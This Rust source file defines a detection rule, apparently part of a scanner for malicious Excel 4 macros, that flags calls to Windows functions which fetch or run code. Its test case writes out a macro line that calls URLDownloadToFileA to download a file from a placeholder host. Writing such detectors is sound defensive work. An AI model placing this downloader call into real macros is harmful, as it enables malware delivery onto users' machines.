//! A macro function calls the functions of Windows that fetch or run code.

use super::lexicon::NATIVE_FUNCTIONS;
use super::{Case, Part, Rule, Subject};
use crate::link::{Carrier, Kind};

pub(super) const RULE: Rule = Rule {
    id: "native-call",
    weight: 85,
    part: Part::Base,
    since: "0.1.0",
    doc: "An Excel 4 macro calls a function of Windows that fetches, loads or runs code \
          (`URLDownloadToFile`, `ShellExecute`, `VirtualAlloc` …).",
    hits: &[Case::execute(
        Carrier::Xlm,
        "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x/a\",\"a\",0,0)",
    )],
    misses: &[
        Case::execute(Carrier::Xlm, "CALL(\"user32\",\"GetActiveWindow\",\"J\")"),
        Case::dde("foo", "shellexecute"),
    ],
    look,
};

fn look(subject: &Subject<'_>) -> Option<String> {
    let lower = subject
        .link
        .target
        .as_deref()
        .unwrap_or_default()
        .to_ascii_lowercase();
    let name = NATIVE_FUNCTIONS
        .iter()
        .find(|name| lower.contains(**name))?;
    (subject.link.kind == Kind::Execute).then(|| (*name).to_owned())
}
